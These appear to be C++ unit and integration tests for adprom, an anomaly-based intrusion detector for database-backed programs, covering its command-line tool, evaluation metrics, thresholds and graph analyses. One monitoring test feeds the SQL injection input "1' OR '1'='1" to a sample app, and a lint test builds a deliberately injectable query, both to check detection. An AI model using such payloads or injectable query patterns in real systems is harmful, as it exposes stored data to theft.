  EXPECT_NE(run.output.find("functions: 4"), std::string::npos);
  EXPECT_NE(run.output.find("labeled TD outputs:"), std::string::npos);
  EXPECT_NE(run.output.find("pCTM invariants: hold"), std::string::npos)
      << run.output;
  EXPECT_NE(run.output.find("items"), std::string::npos);  // provenance
}

TEST(CliTest, AnalyzeReportsAbsintRefinement) {
  // The absint demo sample has one dead branch (constant debug flag) and
  // one counted loop; the zero-iteration skip edge of the loop is pruned
  // alongside the dead arm.
  const std::string demo =
      std::string(ADPROM_SOURCE_DIR) + "/samples/absint/demo.mini";
  const CliRun on = RunTool({"analyze", demo});
  ASSERT_TRUE(on.status.ok()) << on.status.ToString();
  EXPECT_NE(on.output.find("absint: pruned 2 infeasible edges, bounded 1 "
                           "loops"),
            std::string::npos)
      << on.output;

  const CliRun off = RunTool({"analyze", demo, "--no-absint"});
  ASSERT_TRUE(off.status.ok()) << off.status.ToString();
  EXPECT_NE(off.output.find("absint: disabled (--no-absint)"),
            std::string::npos)
      << off.output;
}

TEST(CliTest, DumpCfgWritesAnnotatedDotFiles) {
  const std::string demo =
      std::string(ADPROM_SOURCE_DIR) + "/samples/absint/demo.mini";
  const std::string dir = TempPath("cfg_dump");
  const CliRun run = RunTool({"analyze", demo, "--dump-cfg=" + dir});
  ASSERT_TRUE(run.status.ok()) << run.status.ToString();
  EXPECT_NE(run.output.find("CFGs dumped to"), std::string::npos);

  std::ifstream main_dot(dir + "/main.dot");
  ASSERT_TRUE(main_dot.good()) << dir + "/main.dot";
  std::stringstream main_text;
  main_text << main_dot.rdbuf();
  // The dead-branch edge is rendered infeasible; the counted loop's back
  // edge carries its trip count.
  EXPECT_NE(main_text.str().find("infeasible"), std::string::npos)
      << main_text.str();
  EXPECT_NE(main_text.str().find("trips=3"), std::string::npos)
      << main_text.str();

  std::ifstream poll_dot(dir + "/poll.dot");
  EXPECT_TRUE(poll_dot.good()) << dir + "/poll.dot";
}

TEST(CliTest, FullPipelineTrainTraceScoreMonitor) {
  const std::string profile_path = TempPath("inventory.profile");
  const std::string trace_path = TempPath("benign.trace");

  // Train.
  CliRun train = RunTool({"train", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--cases", Sample("cases.txt"),
                      "--out", profile_path});
  ASSERT_TRUE(train.status.ok()) << train.status.ToString();
  EXPECT_NE(train.output.find("profile written"), std::string::npos);

  // Trace a benign run.
  CliRun trace = RunTool({"trace", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--input", "find,3", "--out",
                      trace_path});
  ASSERT_TRUE(trace.status.ok()) << trace.status.ToString();
  EXPECT_NE(trace.output.find("collected"), std::string::npos);

  // Score the stored trace: quiet.
  CliRun score = RunTool({"score", "--profile", profile_path, "--trace",
                      trace_path});
  ASSERT_TRUE(score.status.ok()) << score.status.ToString();
  EXPECT_NE(score.output.find("alarms: 0"), std::string::npos)
      << score.output;

  // Live monitoring of a benign session: quiet.
  CliRun benign = RunTool({"monitor", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--profile", profile_path,
                       "--input", "list"});
  ASSERT_TRUE(benign.status.ok()) << benign.status.ToString();
  EXPECT_NE(benign.output.find("alarms: 0"), std::string::npos);

  // The injection session from the sample's header comment: alarms, with
  // the items table named as the source.
  CliRun attack = RunTool({"monitor", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--profile", profile_path,
                       "--input", "find,1' OR '1'='1"});
  ASSERT_TRUE(attack.status.ok()) << attack.status.ToString();
  EXPECT_EQ(attack.output.find("alarms: 0"), std::string::npos)
      << attack.output;
  EXPECT_NE(attack.output.find("DataLeak"), std::string::npos)
      << attack.output;
  EXPECT_NE(attack.output.find("items"), std::string::npos);

  std::remove(profile_path.c_str());
  std::remove(trace_path.c_str());
}

TEST(CliTest, TrainFlagsApply) {
  const std::string profile_path = TempPath("flags.profile");
  CliRun train = RunTool({"train", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--cases", Sample("cases.txt"),
                      "--out", profile_path, "--window", "10",
                      "--signatures", "--seed", "7"});
  ASSERT_TRUE(train.status.ok()) << train.status.ToString();
  auto text = ReadFileToString(profile_path);
  ASSERT_TRUE(text.ok());
  EXPECT_NE(text->find("window_length 10"), std::string::npos);
  EXPECT_NE(text->find("use_query_signatures 1"), std::string::npos);
  std::remove(profile_path.c_str());

  EXPECT_FALSE(RunTool({"train", Sample("app.mini"), "--db", Sample("seed.sql"),
                    "--cases", Sample("cases.txt"), "--out", profile_path,
                    "--window", "1"})
                   .status.ok());
}

TEST(CliTest, SeedValidationFailsEarly) {
  const std::string bad_seed = TempPath("bad.sql");
  ASSERT_TRUE(WriteStringToFile(bad_seed, "CREATE GARBAGE\n").ok());
  CliRun run = RunTool({"trace", Sample("app.mini"), "--db", bad_seed,
                    "--input", "list", "--out", TempPath("x.trace")});
  EXPECT_FALSE(run.status.ok());
  std::remove(bad_seed.c_str());
}

TEST(CliTest, AnalyzeReportsTaintLabeler) {
  CliRun fs = RunTool({"analyze", Sample("app.mini")});
  ASSERT_TRUE(fs.status.ok()) << fs.status.ToString();
  EXPECT_NE(fs.output.find("flow-sensitive"), std::string::npos);

  CliRun fi = RunTool({"analyze", Sample("app.mini"), "--flow-insensitive"});
  ASSERT_TRUE(fi.status.ok()) << fi.status.ToString();
  EXPECT_NE(fi.output.find("flow-insensitive"), std::string::npos);
}

int RunMain(std::vector<std::string> args, std::string* out_text,
            std::string* err_text) {
  std::ostringstream out, err;
  const int code = RunCliMain(args, out, err);
  if (out_text != nullptr) *out_text = out.str();
  if (err_text != nullptr) *err_text = err.str();
  return code;
}

TEST(CliLintTest, CleanSampleExitsZero) {
  std::string out;
  const int code = RunMain({"lint", Sample("app.mini")}, &out, nullptr);
  EXPECT_EQ(code, 0) << out;
  EXPECT_NE(out.find("0 findings across"), std::string::npos) << out;
}

TEST(CliLintTest, InjectionFindingExitsOneWithFileLine) {
  const std::string app = TempPath("vuln.mini");
  ASSERT_TRUE(WriteStringToFile(app, R"(fn main() {
  var needle = scan();
  var q = "SELECT * FROM t WHERE name = '";
  q = q + needle;
  q = q + "'";
  var r = db_query(q);
  print(r);
}
)")
                  .ok());
  std::string out;
  const int code = RunMain({"lint", app}, &out, nullptr);
  EXPECT_EQ(code, 1) << out;
  EXPECT_NE(out.find(app + ":6:"), std::string::npos) << out;
  EXPECT_NE(out.find("[sql-injection]"), std::string::npos) << out;
  std::remove(app.c_str());
}

TEST(CliLintTest, ErrorsExitTwoOnStderr) {
  std::string out, err;
  EXPECT_EQ(RunMain({"lint", "/no/such/file.mini"}, &out, &err), 2);
  EXPECT_FALSE(err.empty());
  EXPECT_EQ(RunMain({"lint"}, &out, &err), 2);

  // A syntactically invalid program is an error, not a finding.
  const std::string bad = TempPath("bad.mini");
  ASSERT_TRUE(WriteStringToFile(bad, "fn main( {}\n").ok());
  EXPECT_EQ(RunMain({"lint", bad}, &out, &err), 2);
  std::remove(bad.c_str());
}

TEST(CliLintTest, NonLintCommandsKeepBinaryExitCodes) {
  std::string out, err;
  EXPECT_EQ(RunMain({"analyze", Sample("app.mini")}, &out, &err), 0);
  EXPECT_EQ(RunMain({"analyze", "/no/such/file.mini"}, &out, &err), 1);
  EXPECT_FALSE(err.empty());
}

TEST(ParseSqlSeedTest, SkipsCommentsAndBlanks) {
  const auto statements =
      ParseSqlSeed("# comment\n\nCREATE TABLE t (a INT)\n  \nINSERT INTO t"
                   " VALUES (1)\n");
  ASSERT_EQ(statements.size(), 2u);
  EXPECT_EQ(statements[0], "CREATE TABLE t (a INT)");
}

}  // namespace
}  // namespace adprom::cli
