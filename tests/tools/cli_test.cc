// End-to-end tests of the adprom CLI library against the shipped sample
// application: analyze, train, trace, score, monitor — including the
// injection run a user is invited to try in the sample's header comment.

#include "tools/cli_lib.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <sstream>

namespace adprom::cli {
namespace {

// The sample paths are relative to the repository root; tests locate them
// through the compile-time source dir.
#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

std::string Sample(const std::string& name) {
  return std::string(ADPROM_SOURCE_DIR) + "/samples/inventory/" + name;
}

std::string TempPath(const std::string& name) {
  return ::testing::TempDir() + "/" + name;
}

struct CliRun {
  util::Status status;
  std::string output;
};

CliRun RunTool(std::vector<std::string> args) {
  std::ostringstream out;
  const util::Status status = RunCli(args, out);
  return {status, out.str()};
}

TEST(CliTest, UsageErrors) {
  EXPECT_FALSE(RunTool({}).status.ok());
  EXPECT_FALSE(RunTool({"frobnicate"}).status.ok());
  EXPECT_FALSE(RunTool({"analyze"}).status.ok());
  EXPECT_FALSE(RunTool({"train", "x.mini"}).status.ok());
  EXPECT_FALSE(RunTool({"score", "--profile", "p"}).status.ok());
  EXPECT_FALSE(RunTool({"analyze", "/no/such/file.mini"}).status.ok());
}

TEST(CliTest, AnalyzeSample) {
  const CliRun run = RunTool({"analyze", Sample("app.mini")});
  ASSERT_TRUE(run.status.ok()) << run.status.ToString();
  EXPECT_NE(run.output.find("functions: 4"), std::string::npos);
  EXPECT_NE(run.output.find("labeled TD outputs:"), std::string::npos);
  EXPECT_NE(run.output.find("pCTM invariants: hold"), std::string::npos)
      << run.output;
  EXPECT_NE(run.output.find("items"), std::string::npos);  // provenance
}

TEST(CliTest, FullPipelineTrainTraceScoreMonitor) {
  const std::string profile_path = TempPath("inventory.profile");
  const std::string trace_path = TempPath("benign.trace");

  // Train.
  CliRun train = RunTool({"train", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--cases", Sample("cases.txt"),
                      "--out", profile_path});
  ASSERT_TRUE(train.status.ok()) << train.status.ToString();
  EXPECT_NE(train.output.find("profile written"), std::string::npos);

  // Trace a benign run.
  CliRun trace = RunTool({"trace", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--input", "find,3", "--out",
                      trace_path});
  ASSERT_TRUE(trace.status.ok()) << trace.status.ToString();
  EXPECT_NE(trace.output.find("collected"), std::string::npos);

  // Score the stored trace: quiet.
  CliRun score = RunTool({"score", "--profile", profile_path, "--trace",
                      trace_path});
  ASSERT_TRUE(score.status.ok()) << score.status.ToString();
  EXPECT_NE(score.output.find("alarms: 0"), std::string::npos)
      << score.output;

  // Live monitoring of a benign session: quiet.
  CliRun benign = RunTool({"monitor", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--profile", profile_path,
                       "--input", "list"});
  ASSERT_TRUE(benign.status.ok()) << benign.status.ToString();
  EXPECT_NE(benign.output.find("alarms: 0"), std::string::npos);

  // The injection session from the sample's header comment: alarms, with
  // the items table named as the source.
  CliRun attack = RunTool({"monitor", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--profile", profile_path,
                       "--input", "find,1' OR '1'='1"});
  ASSERT_TRUE(attack.status.ok()) << attack.status.ToString();
  EXPECT_EQ(attack.output.find("alarms: 0"), std::string::npos)
      << attack.output;
  EXPECT_NE(attack.output.find("DataLeak"), std::string::npos)
      << attack.output;
  EXPECT_NE(attack.output.find("items"), std::string::npos);

  std::remove(profile_path.c_str());
  std::remove(trace_path.c_str());
}

TEST(CliTest, TrainFlagsApply) {
  const std::string profile_path = TempPath("flags.profile");
  CliRun train = RunTool({"train", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--cases", Sample("cases.txt"),
                      "--out", profile_path, "--window", "10",
                      "--signatures", "--seed", "7"});
  ASSERT_TRUE(train.status.ok()) << train.status.ToString();
  auto text = ReadFileToString(profile_path);
  ASSERT_TRUE(text.ok());
  EXPECT_NE(text->find("window_length 10"), std::string::npos);
  EXPECT_NE(text->find("use_query_signatures 1"), std::string::npos);
  std::remove(profile_path.c_str());

  EXPECT_FALSE(RunTool({"train", Sample("app.mini"), "--db", Sample("seed.sql"),
                    "--cases", Sample("cases.txt"), "--out", profile_path,
                    "--window", "1"})
                   .status.ok());
}

TEST(CliTest, SeedValidationFailsEarly) {
  const std::string bad_seed = TempPath("bad.sql");
  ASSERT_TRUE(WriteStringToFile(bad_seed, "CREATE GARBAGE\n").ok());
  CliRun run = RunTool({"trace", Sample("app.mini"), "--db", bad_seed,
                    "--input", "list", "--out", TempPath("x.trace")});
  EXPECT_FALSE(run.status.ok());
  std::remove(bad_seed.c_str());
}

TEST(ParseSqlSeedTest, SkipsCommentsAndBlanks) {
  const auto statements =
      ParseSqlSeed("# comment\n\nCREATE TABLE t (a INT)\n  \nINSERT INTO t"
                   " VALUES (1)\n");
  ASSERT_EQ(statements.size(), 2u);
  EXPECT_EQ(statements[0], "CREATE TABLE t (a INT)");
}

}  // namespace
}  // namespace adprom::cli
