#include "eval/evaluation.h"

#include <gtest/gtest.h>

#include <set>

namespace adprom::eval {
namespace {

TEST(ClassifyTest, ThresholdSplitsScores) {
  const std::vector<double> normal = {-1.0, -2.0, -3.0};
  const std::vector<double> anomalous = {-5.0, -6.0, -2.5};
  const ConfusionMatrix cm = Classify(normal, anomalous, -4.0);
  EXPECT_EQ(cm.tn, 3u);  // all normal above threshold
  EXPECT_EQ(cm.fp, 0u);
  EXPECT_EQ(cm.tp, 2u);  // -5, -6 below
  EXPECT_EQ(cm.fn, 1u);  // -2.5 missed
}

TEST(RocSweepTest, CurveSpansBothExtremes) {
  const std::vector<double> normal = {-1, -2, -3};
  const std::vector<double> anomalous = {-4, -5};
  const auto curve = RocSweep(normal, anomalous);
  ASSERT_GE(curve.size(), 3u);
  // Lowest threshold: nothing flagged -> FP 0, FN 1.
  EXPECT_DOUBLE_EQ(curve.front().fp_rate, 0.0);
  EXPECT_DOUBLE_EQ(curve.front().fn_rate, 1.0);
  // Highest threshold: everything flagged -> FP 1, FN 0.
  EXPECT_DOUBLE_EQ(curve.back().fp_rate, 1.0);
  EXPECT_DOUBLE_EQ(curve.back().fn_rate, 0.0);
}

TEST(RocSweepTest, PerfectSeparationHasZeroZeroPoint) {
  const std::vector<double> normal = {-1, -2};
  const std::vector<double> anomalous = {-10, -12};
  const auto curve = RocSweep(normal, anomalous);
  bool perfect = false;
  for (const RocPoint& p : curve) {
    if (p.fp_rate == 0.0 && p.fn_rate == 0.0) perfect = true;
  }
  EXPECT_TRUE(perfect);
}

TEST(FnRateAtFpBudgetTest, PicksBestUnderBudget) {
  const std::vector<RocPoint> curve = {
      {0, 0.0, 0.8}, {0, 0.05, 0.3}, {0, 0.2, 0.1}, {0, 0.5, 0.0}};
  EXPECT_DOUBLE_EQ(FnRateAtFpBudget(curve, 0.0), 0.8);
  EXPECT_DOUBLE_EQ(FnRateAtFpBudget(curve, 0.1), 0.3);
  EXPECT_DOUBLE_EQ(FnRateAtFpBudget(curve, 1.0), 0.0);
}

TEST(KFoldTest, PartitionsAllIndices) {
  const auto splits = KFoldSplits(23, 5, 42);
  ASSERT_EQ(splits.size(), 5u);
  std::set<size_t> all_test;
  for (const FoldSplit& split : splits) {
    EXPECT_EQ(split.train.size() + split.test.size(), 23u);
    for (size_t i : split.test) {
      EXPECT_TRUE(all_test.insert(i).second) << "index tested twice";
    }
    // No overlap between train and test in a fold.
    std::set<size_t> train(split.train.begin(), split.train.end());
    for (size_t i : split.test) EXPECT_EQ(train.count(i), 0u);
  }
  EXPECT_EQ(all_test.size(), 23u);
}

TEST(KFoldTest, DeterministicBySeed) {
  const auto a = KFoldSplits(10, 3, 7);
  const auto b = KFoldSplits(10, 3, 7);
  for (size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].test, b[i].test);
  }
}

TEST(SelectThresholdTest, MaximizesAccuracy) {
  const std::vector<double> normal = {-1, -1.5, -2};
  const std::vector<double> anomalous = {-8, -9};
  const double t = SelectThreshold(normal, anomalous, {-10, -5, -1.7, 0});
  // -5 separates perfectly; -10 misses anomalies; -1.7/0 flag normals.
  EXPECT_DOUBLE_EQ(t, -5.0);
}

TEST(SelectThresholdTest, TiePrefersLowerFpRate) {
  // Both -5 and -4 classify perfectly; the sweep keeps the first best by
  // accuracy then lower FP — equal here, so the earlier candidate wins.
  const std::vector<double> normal = {-1};
  const std::vector<double> anomalous = {-9};
  const double t = SelectThreshold(normal, anomalous, {-5, -4});
  EXPECT_DOUBLE_EQ(t, -5.0);
}

TEST(QuantileCandidatesTest, BelowMinimumIncluded) {
  const auto candidates = QuantileCandidates({-1, -2, -3, -4}, 4);
  ASSERT_FALSE(candidates.empty());
  EXPECT_LT(candidates.front(), -4.0);
}

}  // namespace
}  // namespace adprom::eval
