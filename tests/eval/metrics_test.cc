#include "eval/metrics.h"

#include <gtest/gtest.h>

namespace adprom::eval {
namespace {

TEST(ConfusionMatrixTest, Rates) {
  ConfusionMatrix cm;
  cm.tp = 90;
  cm.fn = 10;
  cm.tn = 880;
  cm.fp = 20;
  EXPECT_DOUBLE_EQ(cm.FpRate(), 20.0 / 900.0);
  EXPECT_DOUBLE_EQ(cm.FnRate(), 10.0 / 100.0);
  EXPECT_DOUBLE_EQ(cm.Precision(), 90.0 / 110.0);
  EXPECT_DOUBLE_EQ(cm.Recall(), 0.9);
  EXPECT_DOUBLE_EQ(cm.Accuracy(), 970.0 / 1000.0);
  EXPECT_EQ(cm.total(), 1000u);
}

TEST(ConfusionMatrixTest, DegenerateDenominators) {
  ConfusionMatrix empty;
  EXPECT_DOUBLE_EQ(empty.FpRate(), 0.0);
  EXPECT_DOUBLE_EQ(empty.FnRate(), 0.0);
  EXPECT_DOUBLE_EQ(empty.Precision(), 1.0);
  EXPECT_DOUBLE_EQ(empty.Recall(), 1.0);
  EXPECT_DOUBLE_EQ(empty.Accuracy(), 1.0);
}

TEST(ConfusionMatrixTest, Accumulation) {
  ConfusionMatrix a;
  a.tp = 1;
  a.fp = 2;
  ConfusionMatrix b;
  b.tn = 3;
  b.fn = 4;
  a += b;
  EXPECT_EQ(a.tp, 1u);
  EXPECT_EQ(a.fp, 2u);
  EXPECT_EQ(a.tn, 3u);
  EXPECT_EQ(a.fn, 4u);
}

TEST(ConfusionMatrixTest, ToStringMentionsCounts) {
  ConfusionMatrix cm;
  cm.tp = 5;
  const std::string s = cm.ToString();
  EXPECT_NE(s.find("TP=5"), std::string::npos);
  EXPECT_NE(s.find("precision"), std::string::npos);
}

}  // namespace
}  // namespace adprom::eval
