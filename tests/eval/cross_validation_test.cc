// Integration test of the paper's cross-validation methodology (§V-B): a
// k-fold split over the test cases of a client app, training on k-1 folds
// and evaluating FP on the held-out fold plus FN on synthetic anomalies.

#include <gtest/gtest.h>

#include "apps/corpus.h"
#include "attack/synthetic.h"
#include "eval/evaluation.h"
#include "prog/program.h"

namespace adprom::eval {
namespace {

TEST(CrossValidationTest, ThreeFoldOnHospitalApp) {
  apps::CorpusApp app = apps::MakeHospitalApp();
  auto program = prog::ParseProgram(app.source);
  ASSERT_TRUE(program.ok());
  core::Analyzer analyzer;
  auto analysis = analyzer.Analyze(*program);
  ASSERT_TRUE(analysis.ok());

  const size_t k = 3;
  const auto splits = KFoldSplits(app.test_cases.size(), k, /*seed=*/17);
  ConfusionMatrix total;
  for (const FoldSplit& split : splits) {
    std::vector<core::TestCase> train_cases;
    std::vector<core::TestCase> test_cases;
    for (size_t i : split.train) train_cases.push_back(app.test_cases[i]);
    for (size_t i : split.test) test_cases.push_back(app.test_cases[i]);

    core::ProfileOptions options;
    options.train.max_iterations = 8;  // bound per-fold cost
    auto system = core::AdProm::Train(*program, app.db_factory, train_cases,
                                      options);
    ASSERT_TRUE(system.ok()) << system.status().ToString();

    auto held_traces = core::AdProm::CollectTraces(
        *program, analysis->cfgs, app.db_factory, test_cases);
    ASSERT_TRUE(held_traces.ok());
    std::vector<runtime::Trace> normal_windows;
    for (const runtime::Trace& trace : *held_traces) {
      for (const auto& window : core::SlidingWindows(
               trace, system->profile().options.window_length)) {
        normal_windows.emplace_back(window.begin(), window.end());
      }
    }
    if (normal_windows.empty()) continue;

    attack::SyntheticAnomalyGenerator generator(normal_windows, 555);
    const auto anomalies = generator.MakeBatch2(20);

    auto normal_scores = ScoreWindows(system->profile(), normal_windows);
    auto anomaly_scores = ScoreWindows(system->profile(), anomalies);
    ASSERT_TRUE(normal_scores.ok());
    ASSERT_TRUE(anomaly_scores.ok());
    total += Classify(*normal_scores, *anomaly_scores,
                      system->profile().threshold);
  }

  // The paper's claim: high accuracy with very low FP — held-out folds of
  // the same workload distribution should rarely trip the detector, and
  // A-S2 anomalies (unknown calls) must never be missed.
  EXPECT_EQ(total.fn, 0u);
  EXPECT_LT(total.FpRate(), 0.10);
  EXPECT_GT(total.Accuracy(), 0.90);
}

}  // namespace
}  // namespace adprom::eval
