#include "eval/adaptive_threshold.h"

#include <gtest/gtest.h>

namespace adprom::eval {
namespace {

TEST(AdaptiveThresholdTest, StartsAtInitial) {
  AdaptiveThreshold t(-2.0);
  EXPECT_DOUBLE_EQ(t.threshold(), -2.0);
}

TEST(AdaptiveThresholdTest, HighNormalScoresDoNotMoveIt) {
  AdaptiveThreshold t(-2.0, 0.5);
  t.ObserveNormal(-0.5);
  t.ObserveNormal(-1.0);
  EXPECT_DOUBLE_EQ(t.threshold(), -2.0);
}

TEST(AdaptiveThresholdTest, LegitimateDriftWidensThreshold) {
  // Normal behaviour drifted to scores near the threshold: it drops so
  // the drifted traffic is not flagged.
  AdaptiveThreshold t(-2.0, 0.5);
  t.ObserveNormal(-1.9);
  EXPECT_DOUBLE_EQ(t.threshold(), -2.4);
  t.ObserveNormal(-2.3);
  EXPECT_DOUBLE_EQ(t.threshold(), -2.8);
}

TEST(AdaptiveThresholdTest, FalsePositiveFeedbackDrops) {
  AdaptiveThreshold t(-2.0, 0.5);
  t.ReportFalsePositive(-2.2);
  EXPECT_DOUBLE_EQ(t.threshold(), -2.7);
  // Already below: no change upward.
  t.ReportFalsePositive(-1.0);
  EXPECT_DOUBLE_EQ(t.threshold(), -2.7);
}

TEST(AdaptiveThresholdTest, MissedAttackRaisesButIsCapped) {
  AdaptiveThreshold t(-2.0, 0.5);
  t.ReportFalsePositive(-3.0);  // threshold now -3.5
  t.ReportMissedAttack(-3.0);
  EXPECT_GT(t.threshold(), -3.0);
  EXPECT_LE(t.threshold(), -2.0);  // never above the trained initial
}

TEST(AdaptiveThresholdTest, MissedAttackRespectsConfirmedNormals) {
  AdaptiveThreshold t(-2.0, 0.5);
  t.ObserveNormal(-2.6);  // threshold -3.1; -2.6 is confirmed normal
  t.ReportMissedAttack(-2.8);
  // Raising above -2.8 would flag the confirmed-normal -2.6 window, so
  // consistency pulls it back below -2.6 - margin.
  EXPECT_LE(t.threshold(), -3.1);
}

TEST(AdaptiveThresholdTest, WindowBoundsMemory) {
  AdaptiveThreshold t(-2.0, 0.5, /*window=*/2);
  t.ObserveNormal(-1.0);
  t.ObserveNormal(-1.1);
  t.ObserveNormal(-1.2);
  EXPECT_EQ(t.observed(), 2u);
}

}  // namespace
}  // namespace adprom::eval
