// Tests of the SCC condensation (prog/scc.h) and the Cfg reverse
// post-order — the two scheduling primitives the dataflow framework is
// built on.

#include "prog/scc.h"

#include <gtest/gtest.h>

#include <set>

#include "prog/cfg.h"
#include "prog/program.h"

namespace adprom::prog {
namespace {

using Adjacency = std::vector<std::vector<int>>;

TEST(SccTest, EmptyGraph) {
  SccDecomposition d = ComputeSccs({});
  EXPECT_TRUE(d.components.empty());
  EXPECT_TRUE(d.component_of.empty());
  EXPECT_TRUE(d.levels.empty());
}

TEST(SccTest, ChainIsCalleesFirst) {
  // 0 -> 1 -> 2: with caller->callee edges, callees must come first.
  const Adjacency adj = {{1}, {2}, {}};
  SccDecomposition d = ComputeSccs(adj);
  ASSERT_EQ(d.components.size(), 3u);
  EXPECT_EQ(d.components[0], std::vector<int>({2}));
  EXPECT_EQ(d.components[1], std::vector<int>({1}));
  EXPECT_EQ(d.components[2], std::vector<int>({0}));
  // Levels: {2} at level 0, {1} at level 1, {0} at level 2.
  ASSERT_EQ(d.levels.size(), 3u);
  for (size_t l = 0; l < 3; ++l) ASSERT_EQ(d.levels[l].size(), 1u);
  EXPECT_EQ(d.components[d.levels[0][0]], std::vector<int>({2}));
  EXPECT_EQ(d.components[d.levels[2][0]], std::vector<int>({0}));
}

TEST(SccTest, CycleCollapsesIntoOneComponent) {
  // 0 <-> 1, both call 2.
  const Adjacency adj = {{1, 2}, {0, 2}, {}};
  SccDecomposition d = ComputeSccs(adj);
  ASSERT_EQ(d.components.size(), 2u);
  EXPECT_EQ(d.components[0], std::vector<int>({2}));
  EXPECT_EQ(d.components[1], std::vector<int>({0, 1}));
  EXPECT_EQ(d.component_of[0], d.component_of[1]);
  EXPECT_NE(d.component_of[0], d.component_of[2]);
}

TEST(SccTest, SelfLoopIsItsOwnComponent) {
  const Adjacency adj = {{0}};
  SccDecomposition d = ComputeSccs(adj);
  ASSERT_EQ(d.components.size(), 1u);
  EXPECT_EQ(d.components[0], std::vector<int>({0}));
}

TEST(SccTest, ReverseTopologicalInvariant) {
  // Diamond with a cycle in one arm: 0 -> {1, 2}, 1 <-> 3, 2 -> 4, 3 -> 4.
  const Adjacency adj = {{1, 2}, {3}, {4}, {1, 4}, {}};
  SccDecomposition d = ComputeSccs(adj);
  for (int u = 0; u < static_cast<int>(adj.size()); ++u) {
    for (int v : adj[static_cast<size_t>(u)]) {
      if (d.component_of[static_cast<size_t>(u)] ==
          d.component_of[static_cast<size_t>(v)]) {
        continue;
      }
      // Callee component listed before the caller's.
      EXPECT_LT(d.component_of[static_cast<size_t>(v)],
                d.component_of[static_cast<size_t>(u)])
          << u << " -> " << v;
    }
  }
}

TEST(SccTest, LevelsAreIndependentAndComplete) {
  // Two independent chains sharing a sink: 0 -> 2, 1 -> 2.
  const Adjacency adj = {{2}, {2}, {}};
  SccDecomposition d = ComputeSccs(adj);
  ASSERT_EQ(d.levels.size(), 2u);
  EXPECT_EQ(d.levels[0].size(), 1u);  // {2}
  EXPECT_EQ(d.levels[1].size(), 2u);  // {0} and {1}, solvable in parallel
  // Every component appears in exactly one level.
  std::set<int> seen;
  for (const auto& level : d.levels) {
    for (int c : level) EXPECT_TRUE(seen.insert(c).second);
  }
  EXPECT_EQ(seen.size(), d.components.size());
  // No edge inside one level.
  std::vector<int> level_of(d.components.size());
  for (size_t l = 0; l < d.levels.size(); ++l) {
    for (int c : d.levels[l]) level_of[static_cast<size_t>(c)] = static_cast<int>(l);
  }
  for (int u = 0; u < static_cast<int>(adj.size()); ++u) {
    for (int v : adj[static_cast<size_t>(u)]) {
      const int cu = d.component_of[static_cast<size_t>(u)];
      const int cv = d.component_of[static_cast<size_t>(v)];
      if (cu != cv) {
        EXPECT_GT(level_of[static_cast<size_t>(cu)],
                  level_of[static_cast<size_t>(cv)]);
      }
    }
  }
}

TEST(CfgReversePostOrderTest, EntryFirstAndForwardEdgesRespected) {
  auto program = ParseProgram(R"(
    fn main() {
      var i = 0;
      while (i < 3) {
        if (i > 1) {
          print(i);
        }
        i = i + 1;
      }
      print("done");
    }
  )");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  auto cfg = BuildCfg(*program, program->functions()[0]);
  ASSERT_TRUE(cfg.ok()) << cfg.status().ToString();

  const std::vector<int> order = cfg->ReversePostOrder();
  ASSERT_EQ(order.size(), cfg->size());
  EXPECT_EQ(order.front(), cfg->entry_id());
  std::vector<int> pos(cfg->size(), -1);
  for (size_t i = 0; i < order.size(); ++i) {
    ASSERT_GE(order[i], 0);
    pos[static_cast<size_t>(order[i])] = static_cast<int>(i);
  }
  // Every node appears exactly once.
  for (int p : pos) EXPECT_GE(p, 0);
  // Non-back edges go forward in the order (back edges are the only
  // edges allowed to point backwards).
  size_t backward_edges = 0;
  for (const CfgNode& node : cfg->nodes()) {
    for (int succ : node.succs) {
      if (pos[static_cast<size_t>(succ)] < pos[static_cast<size_t>(node.id)]) {
        ++backward_edges;
      }
    }
  }
  // The single while loop contributes exactly one back edge.
  EXPECT_EQ(backward_edges, 1u);
}

}  // namespace
}  // namespace adprom::prog
