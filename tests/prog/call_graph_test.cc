#include "prog/call_graph.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "prog/program.h"

namespace adprom::prog {
namespace {

TEST(CallGraphTest, EdgesAndOrder) {
  auto program = ParseProgram(R"(
fn main() { a(); b(); }
fn a() { c(); }
fn b() { c(); }
fn c() { print("leaf"); }
)");
  ASSERT_TRUE(program.ok());
  auto cg = CallGraph::Build(*program);
  ASSERT_TRUE(cg.ok());
  EXPECT_TRUE(cg->Callees("main").count("a"));
  EXPECT_TRUE(cg->Callees("main").count("b"));
  EXPECT_TRUE(cg->Callees("a").count("c"));
  EXPECT_TRUE(cg->Callees("c").empty());
  EXPECT_FALSE(cg->HasRecursion());

  // Reverse topological: every callee precedes its caller.
  const auto& order = cg->reverse_topo_order();
  auto pos = [&](const std::string& name) {
    return std::find(order.begin(), order.end(), name) - order.begin();
  };
  EXPECT_LT(pos("c"), pos("a"));
  EXPECT_LT(pos("c"), pos("b"));
  EXPECT_LT(pos("a"), pos("main"));
  EXPECT_LT(pos("b"), pos("main"));
  EXPECT_EQ(order.back(), "main");
}

TEST(CallGraphTest, LibraryCallsAreNotVertices) {
  auto program = ParseProgram(R"(
fn main() { print("x"); scan(); }
)");
  ASSERT_TRUE(program.ok());
  auto cg = CallGraph::Build(*program);
  ASSERT_TRUE(cg.ok());
  EXPECT_TRUE(cg->Callees("main").empty());
  EXPECT_EQ(cg->reverse_topo_order().size(), 1u);
}

TEST(CallGraphTest, DirectRecursionDetected) {
  auto program = ParseProgram(R"(
fn main() { rec(3); }
fn rec(n) {
  if (n > 0) { rec(n - 1); }
  return n;
}
)");
  ASSERT_TRUE(program.ok());
  auto cg = CallGraph::Build(*program);
  ASSERT_TRUE(cg.ok());
  EXPECT_TRUE(cg->HasRecursion());
  EXPECT_TRUE(cg->cyclic_edges().count({"rec", "rec"}));
}

TEST(CallGraphTest, MutualRecursionDetected) {
